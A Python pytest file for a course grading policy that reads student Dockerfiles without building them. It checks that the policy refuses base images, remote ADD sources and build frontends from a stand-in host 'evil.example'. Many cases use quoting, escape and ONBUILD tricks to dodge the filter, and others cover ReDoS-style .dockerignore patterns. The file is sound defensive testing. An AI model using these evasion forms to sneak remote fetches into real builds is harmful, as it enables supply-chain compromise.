"""What a submission's Dockerfile may reach for: read, never built."""

from __future__ import annotations

from pathlib import Path

import pytest

from stagelens.dockerfile import DockerfileError, parse
from stagelens_course.grading import policy
from stagelens_course.grading.policy import NotAllowed

IMAGES = ("diamol/base",)
MARK = "\ufeff"


@pytest.mark.parametrize(
    "text",
    [
        "FROM evil\n",
        "FROM docker.io/library/evil\n",
        "FROM diamol/base:other\n",
        "ARG X\nFROM ${X:-evil}\n",
        "ARG X=diamol/base\nFROM ${X:+evil}\n",
        "FROM diamol/base\nCOPY --from=evil / /\n",
        "FROM diamol/base\nCOPY --from=$WHOEVER / /\n",
        "FROM diamol/base\nRUN --mount=type=bind,from=evil,target=/x true\n",
        "FROM diamol/base\nRUN --mount=type=cache,from=evil,target=/x true\n",
        "FROM diamol/base\nADD https://evil.example/x /\n",
        "FROM diamol/base\nADD git@evil.example:x /\n",
        "FROM diamol/base\nADD somebody@evil.example:x /\n",
        # Words are parted at blanks alone, and then lose their quotes and escapes.
        "FROM diamol/base\nADD a\\ https://evil.example/x\\ /z/\n",
        'FROM diamol/base\nADD "http:"//evil.example/x /\n',
        "FROM diamol/base\nADD http:\\//evil.example/x /\n",
        'FROM diamol/base\nADD ["http:\\\\//evil.example/x", "/"]\n',
        "# escape=`\nFROM diamol/base\nADD http:`//evil.example/x /\n",
        # Of two, the last one counts.
        "FROM diamol/base\nRUN --mount=from=diamol/base,from=evil,target=/x true\n",
        "FROM diamol/base AS a\nONBUILD COPY --from=evil / /\nFROM a\n",
        "FROM diamol/base AS a\nONBUILD RUN --mount=from=evil,target=/x true\nFROM a\n",
        "FROM diamol/base AS a\nONBUILD ADD http://evil.example/ /\nFROM a\n",
        "FROM diamol/base AS a\nONBUILD ADD http:\\//evil.example/ /\nFROM a\n",
        'FROM diamol/base AS a\nONBUILD COPY --fr"om"=evil / /\nFROM a\n',
        "FROM diamol/base AS a\nONBUILD COPY --fr\\om=evil / /\nFROM a\n",
        "# syntax=evil/one\nFROM diamol/base\n",
        f"{MARK}#SynTax = evil/one\nFROM diamol/base\n",
        "// syntax=evil/one\nFROM diamol/base\n",
        '{"syntax": "evil/one"}\n',
    ],
)
def test_what_the_engine_would_fetch_from_elsewhere_is_refused(text: str) -> None:
    with pytest.raises((NotAllowed, DockerfileError)):
        policy.check(parse(text), IMAGES)


@pytest.mark.parametrize("before", ["", MARK, "#!/bin/sh\n", f"{MARK}#!/bin/sh\n", "# escape=`\n"])
def test_no_line_is_left_that_an_engine_could_take_for_a_frontend(before: str) -> None:
    text = policy.without_syntax(f"{before}# syntax=docker/dockerfile:1\nFROM diamol/base\n")
    assert "syntax" not in text
    assert not text.startswith(MARK)
    assert parse(text).syntax is None
    assert text.endswith("# frontend=docker/dockerfile:1\nFROM diamol/base\n")


def test_what_comes_after_the_directives_is_left_alone() -> None:
    text = "FROM diamol/base\n# syntax=evil/one\n"
    assert policy.without_syntax(text) == text


@pytest.mark.parametrize("name", [".dockerignore", "Dockerfile.dockerignore"])
def test_patterns_that_would_take_for_ever_are_not_matched(tmp_path: Path, name: str) -> None:
    (tmp_path / name).write_text("**/node_modules\n*.{js,ts}\n!keep?.me\n")
    policy.check_ignored(tmp_path)
    (tmp_path / name).write_text("ok\n" + "?{1,200}" * 5 + "b\n")
    with pytest.raises(NotAllowed, match=rf"{name}, line 2"):
        policy.check_ignored(tmp_path)
    (tmp_path / name).write_text("*a\n" * 50_000)
    with pytest.raises(NotAllowed, match="64 KiB"):
        policy.check_ignored(tmp_path)


def test_a_dockerfile_that_would_take_long_to_read_is_not_read(tmp_path: Path) -> None:
    path = tmp_path / "Dockerfile"
    path.write_text("FROM diamol/base AS b\n" * 50_000)
    with pytest.raises(NotAllowed, match="64 KiB"):
        policy.readable(path)
    path.write_text("FROM diamol/base\n" * 501)
    with pytest.raises(NotAllowed, match="may have 500"):
        policy.readable(path)
    path.write_text("FROM diamol/base\n" + "RUN true\n" * 20)
    assert len(policy.readable(path).stages) == 1


def test_triggers_that_fetch_nothing_are_allowed() -> None:
    text = "FROM diamol/base AS a\nONBUILD RUN <<END\necho from=here\nEND\nONBUILD COPY . /app\nFROM a\n"
    policy.check(parse(text), IMAGES)
